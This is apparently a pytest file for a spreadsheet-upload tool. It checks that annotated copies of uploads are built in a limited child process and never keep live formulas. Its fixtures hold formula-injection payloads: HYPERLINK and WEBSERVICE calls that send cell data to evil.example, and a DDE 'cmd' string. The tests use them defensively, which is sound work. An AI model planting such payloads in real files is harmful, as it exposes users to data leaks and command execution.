"""Security 5 and 7b: the annotated copy of an upload is built only when asked for, in a child process limited in
memory and time, refused above a size with the reason; and it serves none of the file's formulas back live."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.formula import ArrayFormula

from loaders import LoaderError, inspect_file
from loaders import annotate as annotate_module
from loaders.annotate import annotate
from loaders.i18n import t
from loaders.records import FileReport, Issue, Severity
from loaders.reference import ROOT
from loaders.text import FORMULA_PREFIXES, escape_markdown
from pages import _upload_ui as up
from tests import test_pages
from tests.corpus.builders import build_checks
from tests.hostile.builders import raw_xlsx, sheet_xml
from tests.test_pages import open_page
from tests.test_upload import upload

sample_db, db_url = test_pages.sample_db, test_pages.db_url
SHEET = "Biểu 01"
FORMULAS = {
    "A1": '=HYPERLINK("http://evil.example/?"&B1,"Mường Tè")',
    "A2": '=WEBSERVICE("http://evil.example/"&B1)',
    "A3": "=1+1",
}
TEXTS = {"A4": "@SUM(1+1)", "A5": "+84 912 345 678", "A6": "-2+3+cmd|' /C calc'!A0", "A7": "\t=1+1"}


def workbook_with_formulas(path: Path) -> Path:
    """Live formulas (one an array formula), text that a spreadsheet would run, and a name holding a formula."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = SHEET
    ws["B1"] = 1000.0
    for cell, formula in FORMULAS.items():
        ws[cell] = formula
    ws["A9"] = ArrayFormula("A9", "=SUM(B1:B3*C1:C3)")
    for cell, text in TEXTS.items():
        ws[cell] = text
        ws[cell].data_type = "s"
    wb.defined_names["leak"] = DefinedName("leak", attr_text='WEBSERVICE("http://evil.example/")')
    wb.save(path)
    return path


def _report(path: Path) -> FileReport:
    return FileReport(str(path), issues=[Issue(Severity.ERROR, "negative_value", "Giá trị âm", SHEET, "B1")])


def _assert_nothing_live(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        parts = {name: zf.read(name) for name in zf.namelist()}
    for name, xml in parts.items():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in xml and b"<f " not in xml, f"a formula in {name}"
    assert b"<definedName " not in parts["xl/workbook.xml"]  # an empty <definedNames /> may stay
    assert not any(name.startswith("xl/externalLinks/") for name in parts)
    ws = load_workbook(io.BytesIO(data))[SHEET]
    for cell, text in {**FORMULAS, **TEXTS, "A9": "=SUM(B1:B3*C1:C3)"}.items():
        assert ws[cell].value == text and ws[cell].data_type == "s", cell  # the formula's text, kept as text
        assert ws[cell].quotePrefix, cell  # shown with the apostrophe Excel puts before text it must not run
    assert all(not c.value.startswith(FORMULA_PREFIXES) or c.quotePrefix for row in ws.iter_rows() for c in row
               if isinstance(c.value, str))
    assert "Giá trị âm" in ws["B1"].comment.text  # and the copy is still annotated


def test_the_files_formulas_come_back_as_text(tmp_path: Path) -> None:
    path = workbook_with_formulas(tmp_path / "formulas.xlsx")
    _assert_nothing_live(annotate(path, _report(path)))


def test_the_copy_is_built_in_a_child_limited_in_memory_and_time(tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    path = workbook_with_formulas(tmp_path / "formulas.xlsx")
    _assert_nothing_live(annotate_module.annotated_copy(path, _report(path)))
    monkeypatch.setattr(annotate_module, "COPY_MEMORY_BYTES", 32 << 20)  # too little to start: the child fails
    with pytest.raises(LoaderError) as failed:
        annotate_module.annotated_copy(path, _report(path))
    assert failed.value.code == "annotation_failed"
    assert str(failed.value) == t("issue.annotation_failed", "vi", detail=t("issue.annotation_memory", "vi"))
    monkeypatch.setattr(annotate_module, "COPY_MEMORY_BYTES", 3 << 29)
    monkeypatch.setattr(annotate_module, "COPY_SECONDS", 0.05)
    with pytest.raises(LoaderError) as slow:
        annotate_module.annotated_copy(path, _report(path), "en")
    assert str(slow.value) == t("issue.annotation_failed", "en", detail=t("issue.annotation_slow", "en", seconds=0.05))


def test_a_file_too_large_to_copy_is_refused_with_the_reason(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    cells = annotate_module.MAX_COPIED_CELLS + 1
    rows = b"".join(b'<row r="%d">' % r + b"".join(b'<c r="%s%d"><v>1</v></c>' % (c, r) for c in (b"A", b"B", b"C", b"D"))
                    + b"</row>" for r in range(1, cells // 4 + 2))
    big = raw_xlsx(tmp_path / "big.xlsx", {SHEET: sheet_xml(rows)})
    with pytest.raises(LoaderError) as refused:
        annotate_module.annotated_copy(big, _report(big))
    assert refused.value.code == "annotation_too_large"
    counted = f"{(cells // 4 + 1) * 4:,}".replace(",", ".")
    assert str(refused.value) == t("issue.annotation_too_large", "vi", cells=counted,
                                   limit=f"{annotate_module.MAX_COPIED_CELLS:,}".replace(",", "."))
    # a file rebuilt from its values (a CSV) is bounded the same way
    monkeypatch.setattr(annotate_module, "MAX_COPIED_CELLS", 5)
    csv = tmp_path / "giai_ngan.csv"
    csv.write_text("Huyện,Năm,Kế hoạch\nMường Tè,2017,1000\n", encoding="utf-8")
    with pytest.raises(LoaderError, match="6"):
        annotate(csv, inspect_file(csv))


def test_the_upload_page_builds_the_copy_only_when_asked(db_url: str, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    built: list[str] = []

    def counting(path: Path, report: FileReport, lang: str = "vi") -> bytes:
        built.append(Path(path).name)
        return annotate(path, report, lang)

    for name in ("annotated_copy", "annotate"):  # whichever the page builds the copy with
        monkeypatch.setattr(up, name, counting, raising=False)
    path = build_checks(tmp_path).path
    at = upload(open_page("upload"), (path.name, path.read_bytes()))
    assert at.error[0].value.startswith("Tệp có 4 lỗi")
    assert built == [], "the copy was built before anyone asked for it"
    assert [d.label for d in at.download_button] == [t("upload.template", "vi")]
    at.button(key=next(b.key for b in at.button if b.label == t("upload.annotate", "vi"))).click().run()
    assert built == ["checks.xlsx"]
    assert [d.label for d in at.download_button] == [t("upload.template", "vi"), t("upload.annotated", "vi")]
    at.run()
    assert built == ["checks.xlsx"]  # kept for the report, not built again


def test_a_copy_refused_says_why_on_the_page(db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    message = t("issue.annotation_too_large", "vi", cells="6.000.000", limit="500.000")

    def refusing(*_args: Any) -> bytes:
        raise LoaderError(message, code="annotation_too_large")

    monkeypatch.setattr(up, "annotated_copy", refusing)
    path = build_checks(tmp_path).path
    at = upload(open_page("upload"), (path.name, path.read_bytes()))
    at.button(key=next(b.key for b in at.button if b.label == t("upload.annotate", "vi"))).click().run()
    assert not at.exception
    assert escape_markdown(message) in [e.value for e in at.error]  # shown as text, as every loader message
    assert [d.label for d in at.download_button] == [t("upload.template", "vi")]


def test_one_list_of_formula_prefixes_for_the_whole_product() -> None:
    from figures import fmt
    from loaders import matching

    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}
    assert matching.FORMULA_PREFIXES is FORMULA_PREFIXES and fmt.FORMULA_PREFIXES is FORMULA_PREFIXES
    copies = [str(p.relative_to(ROOT)) for folder in ("loaders", "figures", "pages", "store") for p in (ROOT / folder).rglob("*.py")
              if re.search(r"""\(\s*["']=["']\s*,\s*["']\+["']""", p.read_text(encoding="utf-8"))]
    assert copies == ["loaders/text.py"]
    for text in ("\t=1+1", "\r=1+1", "@A1"):  # what the annotated copy writes from a file's values
        cell = Workbook().active["A1"]  # type: ignore[index]
        annotate_module._put(cell, text)
        assert cell.data_type == "s" and cell.quotePrefix, repr(text)
